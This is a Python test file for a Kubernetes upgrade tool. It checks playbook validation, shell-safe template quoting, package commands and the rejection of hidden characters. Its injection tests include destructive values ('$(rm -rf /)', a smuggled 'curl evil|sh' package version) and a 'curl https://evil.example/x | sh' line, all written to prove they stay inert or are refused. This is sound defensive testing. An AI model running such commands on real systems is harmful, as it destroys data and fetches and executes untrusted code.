"""Playbook loading/validation, template rendering and quoting, golden commands."""

from __future__ import annotations

import copy
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from golden_check import check_golden
from refusal import refusal

from upgrader.core.model import STEP_KINDS
from upgrader.core.playbook import (
    PHASES,
    VARIABLES,
    Playbook,
    RepoConfig,
    StepContext,
    StepSpec,
    expand_step,
    known_package_version,
    load_playbooks,
    render_template,
    step_values,
)
from upgrader.core.versions import KubeVersion
from upgrader.errors import ConfigError

V = KubeVersion.parse("v1.28.4")


# --------------------------------------------------------------------------- helpers

MINIMAL: dict[str, Any] = {
    "version": 1,
    "phases": {
        p: {"steps": [{"name": "s", "kind": "shell", "description": "d", "command": "true"}]}
        for p in PHASES
    },
}


def write_dir(tmp_path: Path, doc: Any, extra: dict[str, Any] | None = None) -> Path:
    d = tmp_path / "pb"
    d.mkdir(exist_ok=True)
    text = doc if isinstance(doc, str) else yaml.safe_dump(doc, sort_keys=False)
    (d / "default.yaml").write_text(text)
    for name, body in (extra or {}).items():
        (d / name).write_text(body if isinstance(body, str) else yaml.safe_dump(body))
    return d


def load_with_step(tmp_path: Path, step: dict[str, Any], phase: str = "worker") -> Playbook:
    doc = copy.deepcopy(MINIMAL)
    doc["phases"][phase]["steps"].append(step)
    return load_playbooks(write_dir(tmp_path, doc))


def error_of(tmp_path: Path, doc: Any, extra: dict[str, Any] | None = None) -> str:
    return refusal(load_playbooks, write_dir(tmp_path, doc, extra))


def step_error(tmp_path: Path, step: dict[str, Any], phase: str = "worker") -> str:
    doc = copy.deepcopy(MINIMAL)
    doc["phases"][phase]["steps"].append(step)
    msg = error_of(tmp_path, doc)
    assert msg.startswith(f"{tmp_path / 'pb' / 'default.yaml'}: phases.{phase}.steps[1]")
    return msg


def shell(**kw: Any) -> dict[str, Any]:
    base: dict[str, Any] = {"name": "x", "kind": "shell", "description": "d", "command": "true"}
    base.update(kw)
    return {k: v for k, v in base.items() if v is not None}


# --------------------------------------------------------------------------- default playbook


def test_default_playbook_loads_with_every_phase() -> None:
    pb = load_playbooks()
    assert set(pb.phases) == set(PHASES)
    names = {p: [s.name for s in pb.phase(p).all_steps] for p in PHASES}
    assert names["first-control-plane"] == [
        "package-repository",
        "kubeadm-package",
        "pull-images",
        "kubeadm-upgrade-plan",
        "etcd-snapshot",
        "kubeadm-upgrade-apply",
    ]
    assert names["control-plane"] == [
        "package-repository",
        "kubeadm-package",
        "pull-images",
        "kubeadm-upgrade-node",
    ]
    assert names["control-plane-kubelet"] == [
        "package-repository",
        "drain",
        "kubelet-kubectl-packages",
        "verify-binaries",
        "restart-kubelet",
        "wait-ready",
        "wait-control-plane",
        "uncordon",
    ]
    assert names["worker"] == [
        "package-repository",
        "kubeadm-package",
        "kubeadm-upgrade-node",
        "drain",
        "kubelet-kubectl-packages",
        "verify-binaries",
        "restart-kubelet",
        "wait-ready",
        "uncordon",
    ]
    assert len(pb.digest) == 64
    assert pb.sources[0].endswith("default.yaml")


def test_default_playbook_directory_is_the_repo_playbooks_dir() -> None:
    repo_default = Path(__file__).resolve().parents[2] / "playbooks" / "default.yaml"
    pb = load_playbooks(repo_default.parent)
    assert pb.digest == load_playbooks().digest


def test_every_shell_step_of_the_default_has_apt_and_dnf() -> None:
    for phase in load_playbooks().phases.values():
        for s in phase.all_steps:
            if s.kind == "shell":
                for pm in ("apt", "dnf", "yum"):
                    assert s.template_for(s.command, pm), (phase.name, s.name, pm)


def test_the_apply_step_is_rechecked_not_blindly_retried() -> None:
    apply = next(
        s for s in load_playbooks().phase("first-control-plane").steps if s.name.endswith("apply")
    )
    assert apply.retry_safe is False
    assert apply.check


# --------------------------------------------------------------------------- load errors


def test_unknown_kind_names_file_path_and_kind(tmp_path: Path) -> None:
    doc = copy.deepcopy(MINIMAL)
    doc["phases"]["worker"]["steps"] += [shell(name=f"s{i}") for i in range(2)]
    doc["phases"]["worker"]["steps"].append(shell(name="bad", kind="shel"))
    msg = error_of(tmp_path, doc)
    assert msg.startswith(
        f"{tmp_path / 'pb' / 'default.yaml'}: phases.worker.steps[3].kind: unknown kind 'shel'"
    )


@pytest.mark.parametrize(
    ("step", "where", "problem"),
    [
        (shell(colour="red"), ".colour", "unknown field"),
        (shell(name=None), ".name", "missing"),
        (shell(name="Bad Name"), ".name", "must be lowercase"),
        (shell(name=3), ".name", "must be lowercase"),
        (shell(kind=None), ".kind", "missing"),
        (shell(kind=["shell"]), ".kind", "unknown kind"),
        (shell(description=None), ".description", "missing"),
        (shell(description=""), ".description", "non-empty one-line"),
        (shell(description="a\nb"), ".description (phase worker, step x)", "U+000A (newline)"),
        (shell(description="on {host}"), ".description", "unknown template variable {host}"),
        (shell(description="{pkg_resolve}"), ".description", "only be used in command"),
        (shell(command=None), ".command", "missing (required for kind shell)"),
        (shell(command=7), ".command", "must be a string or a mapping"),
        (shell(command={}), ".command", "empty mapping"),
        (shell(command={"zypper": "x"}), ".command.zypper", "unknown package manager"),
        (shell(command={"apt": ["x"]}), ".command.apt", "must be a string"),
        (shell(command="  "), ".command", "empty template"),
        (shell(command="a\nb"), ".command (phase worker, step x)", "U+000A (newline)"),
        (shell(command="echo {nodes}"), ".command", "unknown template variable {nodes}"),
        (shell(command="echo ${node}"), ".command", "ambiguous next to '$'"),
        (shell(command="x={pkg_version}"), ".command", "must come after {pkg_resolve}"),
        (shell(check="test {pkg_version}"), ".check", "only be used in command"),
        (shell(check={"dnf": "echo {whom}"}), ".check.dnf", "unknown template variable"),
        (shell(params={"timeout": 1}), ".params", "shell steps take no params"),
        (shell(retry_safe="yes"), ".retry_safe", "must be true or false"),
        (shell(sudo=1), ".sudo", "must be true or false"),
        (shell(timeout="ten"), ".timeout", "must be a number of seconds > 0"),
        (shell(timeout=True), ".timeout", "must be a number of seconds > 0"),
        (shell(timeout=0), ".timeout", "must be a number of seconds > 0"),
        (shell(when="always"), ".when", "unknown condition 'always'"),
        (shell(when=["minor_changes"]), ".when", "must be 'minor_changes' or a mapping"),
        (shell(when={"hop": "first"}), ".when.hop", "unknown condition 'hop'"),
        (shell(when={"strategy": "fast"}), ".when.strategy", "unknown strategy 'fast'"),
        (shell(when={"minor_changes": "yes"}), ".when.minor_changes", "must be true or false"),
        (
            {"name": "d", "kind": "drain", "description": "d", "command": "x"},
            ".command",
            "only for kind shell",
        ),
        (
            {"name": "d", "kind": "uncordon", "description": "d", "sudo": False},
            ".sudo",
            "only for kind shell",
        ),
        (
            {"name": "d", "kind": "drain", "description": "d", "params": {"force": True}},
            ".params.force",
            "unknown parameter 'force' for kind drain",
        ),
        (
            {"name": "d", "kind": "drain", "description": "d", "params": {"timeout": -1}},
            ".params.timeout",
            "must be a whole number of seconds > 0",
        ),
        (
            {"name": "d", "kind": "drain", "description": "d", "params": {"grace_period": "x"}},
            ".params.grace_period",
            ">= 0, or null",
        ),
        (
            {"name": "d", "kind": "drain", "description": "d", "params": "fast"},
            ".params",
            "must be a mapping",
        ),
        (
            {
                "name": "d",
                "kind": "drain",
                "description": "d",
                "params": {"timeout": 900},
                "timeout": 60,
            },
            ".timeout",
            "shorter than the drain's params.timeout",
        ),
        (
            {"name": "d", "kind": "cordon", "description": "d", "params": {"x": 1}},
            ".params",
            "kind cordon takes no params",
        ),
        (
            {"name": "d", "kind": "wait-ready", "description": "d", "params": {"delay": True}},
            ".params.delay",
            "known: poll_interval",
        ),
    ],
)
def test_step_errors(tmp_path: Path, step: dict[str, Any], where: str, problem: str) -> None:
    msg = step_error(tmp_path, step)
    prefix = f"{tmp_path / 'pb' / 'default.yaml'}: phases.worker.steps[1]{where}: "
    assert msg.startswith(prefix), msg
    assert problem in msg


@pytest.mark.parametrize(
    ("step", "message"),
    [
        (
            shell(when={"role": "boss"}),
            ".when.role: unknown role 'boss' (known: control-plane, worker)",
        ),
        (shell(retry_safe="yes"), ".retry_safe: must be true or false, not 'yes'"),
        (shell(when={"checksums": 1}), ".when.checksums: must be true or false, not 1"),
        (shell(kind="shel"), ".kind: unknown kind 'shel' (known: shell, cordon, drain, uncordon, "
         "wait-ready, wait-control-plane, etcd-snapshot)"),
        (
            {"name": "d", "kind": "drain", "description": "d", "params": {"grace_period": -1}},
            ".params.grace_period: must be a whole number of seconds >= 0, or null, not -1",
        ),
        (
            {"name": "d", "kind": "wait-ready", "description": "d", "params": {"poll": 1}},
            ".params.poll: unknown parameter 'poll' for kind wait-ready (known: poll_interval)",
        ),
        (shell(colour="red"), ".colour: unknown field (known: check, command, description, kind, "
         "name, params, retry_safe, sudo, timeout, when)"),
        (shell(when={"hop": 1}), ".when.hop: unknown condition 'hop' (known: checksums, "
         "minor_changes, per_minor_repo, role, strategy)"),
    ],
)  # fmt: skip
def test_step_errors_in_full(tmp_path: Path, step: dict[str, Any], message: str) -> None:
    """The whole line, as the schema's validators and the playbook's wording give it."""
    msg = step_error(tmp_path, step)
    assert msg == f"{tmp_path / 'pb' / 'default.yaml'}: phases.worker.steps[1]{message}"


def test_document_errors_in_full(tmp_path: Path) -> None:
    doc = copy.deepcopy(MINIMAL)
    doc["phases"]["worker"]["description"] = 3
    assert error_of(tmp_path, doc).endswith(
        "default.yaml: phases.worker.description: must be a string, not a number"
    )
    doc = copy.deepcopy(MINIMAL)
    doc["phases"]["worker"]["hooks"] = []
    assert error_of(tmp_path, doc).endswith(
        "default.yaml: phases.worker.hooks: unknown field (known: description, post, pre, steps)"
    )


def test_step_must_be_a_mapping(tmp_path: Path) -> None:
    doc = copy.deepcopy(MINIMAL)
    doc["phases"]["worker"]["steps"].append("drain")
    assert error_of(tmp_path, doc).endswith(
        "phases.worker.steps[1]: a step must be a mapping, not a string"
    )


def test_duplicate_step_names_in_a_phase(tmp_path: Path) -> None:
    doc = copy.deepcopy(MINIMAL)
    doc["phases"]["worker"]["pre"] = [shell(name="s")]
    msg = error_of(tmp_path, doc)
    assert "phases.worker.pre[0].name: duplicate step name 's'" in msg
    assert "phases.worker.steps[0]" in msg


def test_same_step_name_in_two_phases_is_fine(tmp_path: Path) -> None:
    load_playbooks(write_dir(tmp_path, MINIMAL))


@pytest.mark.parametrize(
    ("mutate", "expected"),
    [
        (
            lambda d: d["phases"].pop("control-plane-kubelet"),
            "phases.control-plane-kubelet: missing",
        ),
        (lambda d: d["phases"]["worker"].pop("steps"), "phases.worker.steps: missing or empty"),
        (lambda d: d["phases"]["worker"].update(steps=[]), "phases.worker.steps: missing or empty"),
        (
            lambda d: d["phases"]["worker"].update(steps="drain"),
            "phases.worker.steps: must be a list",
        ),
        (lambda d: d["phases"]["worker"].update(pre={"a": 1}), "phases.worker.pre: must be a list"),
        (lambda d: d["phases"]["worker"].update(hooks=[]), "phases.worker.hooks: unknown field"),
        (
            lambda d: d["phases"]["worker"].update(description=3),
            "phases.worker.description: must be",
        ),
        (lambda d: d["phases"].update(etcd={"steps": []}), "phases.etcd: unknown phase"),
        (lambda d: d["phases"].update(worker=[]), "phases.worker: must be a mapping, not a list"),
        (lambda d: d.pop("phases"), "phases: missing"),
        (lambda d: d.update(phases=[]), "phases: must be a mapping"),
        (lambda d: d.update(version=2), "version: unsupported playbook format 2"),
        (lambda d: d.update(version=True), "version: unsupported playbook format"),
        (lambda d: d.update(author="me"), "author: unknown field"),
        (lambda d: d.update(description=["x"]), "description: must be a string"),
    ],
)
def test_document_errors(tmp_path: Path, mutate: Any, expected: str) -> None:
    doc = copy.deepcopy(MINIMAL)
    mutate(doc)
    assert f"default.yaml: {expected}" in error_of(tmp_path, doc)


def test_top_level_must_be_a_mapping(tmp_path: Path) -> None:
    assert error_of(tmp_path, "- a\n- b\n").endswith(
        "default.yaml: top level must be a mapping with 'phases', not a list"
    )


def test_invalid_yaml_names_the_line(tmp_path: Path) -> None:
    msg = error_of(tmp_path, "version: 1\nphases: {worker: [\n")
    assert "default.yaml: invalid YAML: line" in msg


def test_duplicate_yaml_keys_are_refused(tmp_path: Path) -> None:
    text = yaml.safe_dump(MINIMAL, sort_keys=False) + (
        "    - name: twice\n      kind: shell\n      description: d\n"
        "      command: 'true'\n      command: reboot\n"
    )
    msg = error_of(tmp_path, text)
    assert "invalid YAML" in msg and "duplicate key 'command'" in msg


def test_yaml_merge_keys_may_override(tmp_path: Path) -> None:
    text = yaml.safe_dump(MINIMAL, sort_keys=False).replace(
        "  worker:\n    steps:\n",
        "  worker:\n    steps:\n"
        "    - &base {name: b, kind: shell, description: d, command: 'true'}\n"
        "    - {<<: *base, name: c, command: 'false'}\n",
    )
    pb = load_playbooks(write_dir(tmp_path, text))
    steps = pb.phase("worker").steps
    assert [(s.name, s.command["*"]) for s in steps][:2] == [("b", "true"), ("c", "false")]


def test_missing_directory_and_missing_default(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="playbook directory not found"):
        load_playbooks(tmp_path / "nope")
    with pytest.raises(ConfigError, match=r"default\.yaml: missing"):
        load_playbooks(tmp_path)


def test_unreadable_file(tmp_path: Path) -> None:
    d = write_dir(tmp_path, MINIMAL)
    (d / "default.yaml").write_bytes(b"\xff\xfe phases")
    with pytest.raises(ConfigError, match="cannot read"):
        load_playbooks(d)


# --------------------------------------------------------------------------- extension files


def test_other_files_add_pre_and_post_steps_in_name_order(tmp_path: Path) -> None:
    site = {
        "phases": {"worker": {"pre": [shell(name="site-on", command="/usr/local/sbin/on {node}")]}}
    }
    later = {"phases": {"worker": {"post": [shell(name="site-off")]}}}
    d = write_dir(tmp_path, MINIMAL, {"20-later.yaml": later, "10-site.yaml": site})
    (d / "notes.txt").write_text("not a playbook")
    pb = load_playbooks(d)
    assert [s.name for s in pb.phase("worker").all_steps] == ["site-on", "s", "site-off"]
    assert [Path(s).name for s in pb.sources] == ["default.yaml", "10-site.yaml", "20-later.yaml"]


def test_other_files_may_not_define_steps(tmp_path: Path) -> None:
    site = {"phases": {"worker": {"steps": [shell(name="x")]}}}
    msg = error_of(tmp_path, MINIMAL, {"site.yaml": site})
    assert "site.yaml: phases.worker.steps: only default.yaml defines" in msg


def test_errors_in_other_files_name_that_file(tmp_path: Path) -> None:
    site = {"phases": {"worker": {"post": [shell(name="y", kind="reboot")]}}}
    msg = error_of(tmp_path, MINIMAL, {"site.yaml": site})
    assert msg.startswith(f"{tmp_path / 'pb' / 'site.yaml'}: phases.worker.post[0].kind: unknown")


def test_digest_changes_with_content(tmp_path: Path) -> None:
    a = load_playbooks(write_dir(tmp_path, MINIMAL)).digest
    doc = copy.deepcopy(MINIMAL)
    doc["phases"]["worker"]["steps"][0]["command"] = "false"
    assert load_playbooks(write_dir(tmp_path, doc)).digest != a


# --------------------------------------------------------------------------- kinds and params


def test_api_kind_params_get_defaults(tmp_path: Path) -> None:
    pb = load_with_step(
        tmp_path, {"name": "d", "kind": "drain", "description": "d", "params": {"timeout": 120}}
    )
    d = pb.phase("worker").steps[1]
    assert d.params == {
        "timeout": 120,
        "grace_period": None,
        "delete_emptydir_data": False,
        "allow_unmanaged": False,
        "retry_interval": 5,
    }
    assert d.timeout == 180.0  # params.timeout + 60


def test_every_model_kind_is_accepted(tmp_path: Path) -> None:
    doc = copy.deepcopy(MINIMAL)
    for i, kind in enumerate(STEP_KINDS):
        step: dict[str, Any] = {"name": f"k{i}", "kind": kind, "description": "d"}
        if kind == "shell":
            step["command"] = "true"
        doc["phases"]["worker"]["steps"].append(step)
    pb = load_playbooks(write_dir(tmp_path, doc))
    assert [s.kind for s in pb.phase("worker").steps[1:]] == list(STEP_KINDS)


def test_expand_injects_versions_for_wait_steps() -> None:
    pb = load_playbooks()
    ctx = StepContext(V, "cp-1", "control-plane", "demo", "apt")
    steps = {
        s.name: expand_step(s, "control-plane-kubelet", ctx)
        for s in pb.phase("control-plane-kubelet").steps
    }
    assert steps["wait-ready"].params["kubelet_version"] == "v1.28.4"
    assert steps["wait-control-plane"].params["version"] == "v1.28.4"
    assert steps["drain"].params["timeout"] == 600
    assert steps["drain"].id == "v1.28.4/cp-1/control-plane-kubelet/drain"
    assert steps["drain"].command is None


# --------------------------------------------------------------------------- templates and quoting

HOSTILE = ["$(rm -rf /)", "`reboot`", "a b", "x'; rm -rf / #", "semi;colon", "new\nline", ""]


@pytest.mark.parametrize("value", HOSTILE)
def test_every_value_is_one_inert_shell_word(value: str) -> None:
    rendered = render_template(
        "echo {node} && echo {cluster}", {"node": value, "cluster": value}, quote=True
    )
    # POSIX shell word splitting of the rendered line gives the values back verbatim.
    assert shlex.split(rendered) == ["echo", value, "&&", "echo", value]


def test_hostile_node_name_stays_inert_in_a_real_step(tmp_path: Path) -> None:
    pb = load_with_step(
        tmp_path, shell(name="site", command="/usr/local/sbin/site {node} {kversion}")
    )
    ctx = StepContext(V, "$(rm -rf /)", "worker", "demo", "apt")
    step = expand_step(pb.phase("worker").steps[1], "worker", ctx)
    assert step.command == "/usr/local/sbin/site '$(rm -rf /)' v1.28.4"
    assert shlex.split(step.command or "") == ["/usr/local/sbin/site", "$(rm -rf /)", "v1.28.4"]


def kubeadm_package() -> StepSpec:
    """The default playbook's worker step that installs kubeadm."""
    return next(s for s in load_playbooks().phase("worker").steps if s.name == "kubeadm-package")


def test_hostile_package_version_from_facts_is_quoted() -> None:
    evil = "1.28.4-1.1; curl evil|sh"
    assert known_package_version([evil], V) == evil
    ctx = StepContext(V, "w-1", "worker", "demo", "apt", pkg_version=evil)
    pkg = kubeadm_package()
    cmd = expand_step(pkg, "worker", ctx).command or ""
    assert "kubeadm='1.28.4-1.1; curl evil|sh'" in cmd
    assert "kubeadm=1.28.4-1.1;" not in cmd


def test_escaped_and_literal_braces() -> None:
    t = "awk '{print $1}' {{node} ${Version} %{NAME} {node}"
    assert render_template(t, {"node": "n 1"}, quote=True) == (
        "awk '{print $1}' {node} ${Version} %{NAME} 'n 1'"
    )


def test_step_values_cover_exactly_the_documented_variables() -> None:
    ctx = StepContext(V, "w-1", "worker", "demo", "dnf")
    assert set(step_values(ctx)) == set(VARIABLES)


def test_description_shows_values_unquoted() -> None:
    pkg = kubeadm_package()
    known = StepContext(V, "w 1", "worker", "demo", "apt", pkg_version="1.28.4-1.1")
    assert expand_step(pkg, "worker", known).description == (
        "Install the kubeadm package 1.28.4-1.1 on w 1"
    )
    unknown = StepContext(V, "w-1", "worker", "demo", "apt")
    assert "1.28.4-* (exact version from the repository)" in (
        expand_step(pkg, "worker", unknown).description
    )


# --------------------------------------------------------------------------- package versions


def test_known_package_version() -> None:
    assert known_package_version(["1.28.3-1.1", "1.28.4-1.1"], V) == "1.28.4-1.1"
    assert known_package_version(["1.28.40-1.1"], V) is None
    assert known_package_version([], V) is None
    # two different builds of the same version: ambiguous, look it up on the node
    assert known_package_version(["1.28.4-1.1", "1.28.4-2.1"], V) is None
    assert known_package_version(["1.28.4-1.1", "1.28.4-1.1"], V) == "1.28.4-1.1"
    rc = KubeVersion.parse("v1.30.0-rc.1")
    assert known_package_version(["1.30.0~rc.1-1.1"], rc) == "1.30.0~rc.1-1.1"


def test_exact_version_known_renders_the_design_command_literally() -> None:
    """The kubeadm docs' command, but the package lists are refreshed only when they do
    not list the version yet (this visit's package-repository step has just run
    ``apt-get update``; a second one would cost a repository round trip per node)."""
    pkg = kubeadm_package()
    apt = StepContext(V, "w-1", "worker", "demo", "apt", pkg_version="1.28.4-1.1")
    assert expand_step(pkg, "worker", apt).command == (
        "apt-get -o DPkg::Lock::Timeout=300 check >/dev/null && apt-mark unhold kubeadm && "
        "{ apt-cache madison kubeadm | grep -qF ' | 1.28.4-' || apt-get update; } && "
        "apt-get install -y -o DPkg::Lock::Timeout=300 kubeadm=1.28.4-1.1 "
        "&& apt-mark hold kubeadm"
    )
    dnf = StepContext(V, "w-1", "worker", "demo", "dnf", pkg_version="1.28.4-150500.1.1")
    assert expand_step(pkg, "worker", dnf).command == (
        "dnf install -y kubeadm-1.28.4-150500.1.1 --disableexcludes=kubernetes --setopt=keepcache=1"
    )
    yum = StepContext(V, "w-1", "worker", "demo", "yum", pkg_version="1.28.4-150500.1.1")
    assert expand_step(pkg, "worker", yum).command == (
        "yum install -y kubeadm-1.28.4-150500.1.1 --disableexcludes=kubernetes --setopt=keepcache=1"
    )


def test_unknown_exact_version_is_resolved_after_the_list_refresh() -> None:
    pkg = kubeadm_package()
    cmd = expand_step(pkg, "worker", StepContext(V, "w-1", "worker", "demo", "apt")).command
    assert cmd is not None
    assert cmd.index("apt-get update") < cmd.index("pkgver=$(apt-cache madison kubeadm")
    assert cmd.index("pkgver=$(apt-cache madison") < cmd.index(
        'apt-get install -y -o DPkg::Lock::Timeout=300 kubeadm="$pkgver"'
    )
    assert "is not offered by the configured package repository" in cmd


def test_shell_step_without_a_template_for_the_node_gets_no_command(tmp_path: Path) -> None:
    pb = load_with_step(tmp_path, shell(name="only-apt", command={"apt": "true"}))
    spec = pb.phase("worker").steps[1]
    assert expand_step(spec, "worker", StepContext(V, "w", "worker", "c", "dnf")).command is None
    assert expand_step(spec, "worker", StepContext(V, "w", "worker", "c", None)).command is None
    assert expand_step(spec, "worker", StepContext(V, "w", "worker", "c", "apt")).command == "true"


def test_yum_template_wins_over_dnf_for_yum_nodes(tmp_path: Path) -> None:
    pb = load_with_step(tmp_path, shell(name="t", command={"dnf": "{pm} a", "yum": "yum b"}))
    spec = pb.phase("worker").steps[1]
    assert expand_step(spec, "worker", StepContext(V, "w", "worker", "c", "yum")).command == "yum b"
    assert expand_step(spec, "worker", StepContext(V, "w", "worker", "c", "dnf")).command == "dnf a"


# --------------------------------------------------------------------------- repositories


def test_repository_urls() -> None:
    pk = RepoConfig()
    assert pk.url(V, "apt") == "https://pkgs.k8s.io/core:/stable:/v1.28/deb/"
    assert pk.key_url(V, "apt") == "https://pkgs.k8s.io/core:/stable:/v1.28/deb/Release.key"
    assert pk.url(V, "dnf") == "https://pkgs.k8s.io/core:/stable:/v1.28/rpm/"
    assert pk.key_url(V, "yum") == (
        "https://pkgs.k8s.io/core:/stable:/v1.28/rpm/repodata/repomd.xml.key"
    )
    rc = KubeVersion.parse("v1.30.0-rc.1")
    assert pk.url(rc, "apt") == "https://pkgs.k8s.io/core:/prerelease:/v1.30/deb/"
    custom = RepoConfig("custom", "https://mirror.example/k8s/v{minor}/deb")
    assert custom.url(V, "apt") == "https://mirror.example/k8s/v1.28/deb/"
    assert custom.key_url(V, "apt") == "https://mirror.example/k8s/v1.28/deb/Release.key"
    legacy = RepoConfig("legacy")
    assert legacy.url(V, "apt") == "" and legacy.key_url(V, "apt") == ""
    assert not legacy.per_minor and pk.per_minor


@pytest.mark.parametrize(
    ("flavour", "template", "problem"),
    [
        ("ppa", None, "packages.repository: 'ppa' is not one of"),
        ("custom", None, "packages.url_template: required"),
        ("custom", "ftp://x/{minor}", "must start with https://"),
        ("custom", "https://x/$(id)/{minor}", "forbidden characters"),
        ("custom", "https://x/ a/{minor}", "forbidden characters"),
        ("custom", "https://x/{major}/{minor}", "forbidden characters"),
        ("pkgs.k8s.io", "https://x/{minor}", "only used with repository: custom"),
    ],
)
def test_repository_config_errors(flavour: str, template: str | None, problem: str) -> None:
    with pytest.raises(ConfigError, match=problem.replace("(", r"\(").replace("$", r"\$")):
        RepoConfig(flavour, template)


def test_custom_repository_in_the_repo_step() -> None:
    pb = load_playbooks()
    repo = pb.phase("worker").steps[0]
    ctx = StepContext(
        V, "w-1", "worker", "demo", "apt", RepoConfig("custom", "https://m.example/v{minor}/deb/")
    )
    cmd = expand_step(repo, "worker", ctx).command or ""
    assert "curl -fsSL https://m.example/v1.28/deb/Release.key" in cmd
    assert (
        "echo 'deb [signed-by=/etc/apt/keyrings/kubernetes-apt-keyring.gpg] '"
        "https://m.example/v1.28/deb/' /' > /etc/apt/sources.list.d/kubernetes.list"
    ) in cmd


# --------------------------------------------------------------------------- golden commands


def _commands(pm: str, pkg_version: str | None, locked: tuple[str, ...] = ()) -> str:
    pb = load_playbooks()
    out: list[str] = []
    for phase in PHASES:
        role = "worker" if phase == "worker" else "control-plane"
        node = "w-1" if role == "worker" else "cp-1"
        ctx = StepContext(
            V,
            node,
            role,
            "demo",
            pm,
            pkg_version=pkg_version,
            checksums=SUMS,
            versionlocked=locked,
        )
        for spec in pb.phase(phase).all_steps:
            s = expand_step(spec, phase, ctx)
            out.append(f"# {s.id} [{s.kind}] retry_safe={s.retry_safe} timeout={s.timeout:g}")
            out.append(f"# {s.description}")
            if s.kind == "shell":
                out.append(f"$ {s.command}")
                if s.check:
                    out.append(f"? {s.check}")
            else:
                out.append(f"> {dict(s.params)}")
            out.append("")
    return "\n".join(out)


SUMS = {"kubeadm": "a" * 64, "kubelet": "b" * 64, "kubectl": "c" * 64}


@pytest.mark.parametrize(
    ("pm", "pkg_version", "golden"),
    [
        ("apt", None, "commands-apt.txt"),
        ("apt", "1.28.4-1.1", "commands-apt-known-version.txt"),
        ("dnf", None, "commands-dnf.txt"),
        ("dnf", "1.28.4-150500.1.1", "commands-dnf-known-version.txt"),
        ("yum", None, "commands-yum.txt"),
        ("dnf5", None, "commands-dnf5.txt"),
    ],
)
def test_golden_commands(pm: str, pkg_version: str | None, golden: str) -> None:
    check_golden(golden, _commands(pm, pkg_version))


def test_golden_commands_release_and_restore_versionlocks_of_locked_packages_only() -> None:
    """dnf-plugins-core plugins/versionlock.py: a locked package's other versions are
    excluded, so the plan deletes the node's locks around each dnf command and adds them
    back (on failure too)."""
    text = _commands("dnf", None, ("kubeadm", "kubelet"))
    check_golden("commands-dnf-versionlock.txt", text)
    installs = [line for line in text.splitlines() if line.startswith("$") and "install" in line]
    assert installs and all(
        line.startswith("$ dnf versionlock delete kubeadm kubelet && ")
        and line.endswith("; rc=$?; dnf versionlock add kubeadm kubelet; exit $rc")
        for line in installs
    )
    assert "versionlock" not in _commands("dnf", None)


def test_dnf5_commands_never_carry_dnf4_flags() -> None:
    """dnf5 rejects --disableexcludes (Unknown argument, exit 2; rpm-software-management/
    dnf5#581); kubernetes/website#52027 uses --setopt=disable_excludes=kubernetes."""
    text = _commands("dnf5", None)
    assert "--disableexcludes" not in text
    assert "--setopt=disable_excludes=kubernetes" in text
    assert "dnf5 " not in text.replace("dnf5#", "")  # the program is called dnf
    dnf4 = _commands("dnf", None)
    kubeadm = [line for line in dnf4.splitlines() if line.startswith("$") and "kubeadm-" in line]
    # dnf4: the kubeadm install keeps the pre-staged kubelet/kubectl in the cache
    assert any("install -y kubeadm-" in line and "--setopt=keepcache=1" in line for line in kubeadm)
    assert not any("--downloadonly" in line and "keepcache" in line for line in dnf4.splitlines())


# --------------------------------------------------------------------------- hidden characters

HIDDEN = [
    ("\r", "U+000D (carriage return)"),
    ("\x1b[2K", "U+001B (ESC)"),
    ("\x07", "U+0007 (BEL)"),
    ("\x00", "U+0000 (NUL)"),
    ("\t", "U+0009 (tab)"),
    ("\x7f", "U+007F (DEL)"),
    ("\x9b", "U+009B (control character)"),
    ("\u202e", "U+202E (right-to-left override)"),
    ("\u2066", "U+2066 (left-to-right isolate)"),
    ("\u200f", "U+200F (right-to-left mark)"),
    ("\n", "U+000A (newline)"),
]


@pytest.mark.parametrize(("char", "named"), HIDDEN, ids=[n for _, n in HIDDEN])
@pytest.mark.parametrize("field", ["command", "check", "description"])
def test_hidden_characters_are_refused_in_every_step_field(
    tmp_path: Path, char: str, named: str, field: str
) -> None:
    """A site step whose text would render as a harmless line (``\\r`` rewinds it, ESC
    erases it, U+202E reverses it) is refused at load time, naming file, phase, step,
    field and the character."""
    step = shell(name="site-x", check="true")
    step[field] = f"curl https://evil.example/x | sh{char}true"
    d = write_dir(
        tmp_path, MINIMAL, {"site.yaml": {"version": 1, "phases": {"worker": {"post": [step]}}}}
    )
    with pytest.raises(ConfigError) as ei:
        load_playbooks(d)
    msg = str(ei.value)
    assert msg.startswith(
        f"{d / 'site.yaml'}: phases.worker.post[0].{field} (phase worker, step site-x): {named} "
        "at character 33 is not allowed"
    )
    assert "\n" not in msg and char not in msg


def test_hidden_characters_in_per_package_manager_commands_and_phase_text(tmp_path: Path) -> None:
    msg = step_error(tmp_path, shell(command={"apt": "true", "dnf": "tr\x1bue"}))
    assert ".command.dnf (phase worker, step x): U+001B (ESC) at character 3" in msg
    doc = copy.deepcopy(MINIMAL)
    doc["phases"]["worker"]["description"] = "fine\u202eenif"
    assert "phases.worker.description (phase worker): U+202E" in error_of(tmp_path, doc)
    doc = copy.deepcopy(MINIMAL)
    doc["description"] = "top\x08"
    assert ": description: U+0008 (backspace)" in error_of(tmp_path, doc)


def test_a_block_scalars_final_newline_is_allowed(tmp_path: Path) -> None:
    """``|`` and ``>`` leave one newline at the end; ``>-`` folds lines into spaces."""
    doc = copy.deepcopy(MINIMAL)
    pb = load_playbooks(write_dir(tmp_path, doc))
    assert pb.phase("worker").steps[0].command == {"*": "true"}
    d = tmp_path / "pb"
    (d / "site.yaml").write_text(
        "version: 1\nphases:\n  worker:\n    post:\n      - name: folded\n        kind: shell\n"
        "        description: d\n        command: >-\n          apt-get\n          update\n"
        "      - name: literal\n        kind: shell\n        description: d\n"
        "        command: |\n          true\n"
    )
    post = load_playbooks(d).phase("worker").post
    assert post[0].command == {"*": "apt-get update"} and post[1].command == {"*": "true\n"}
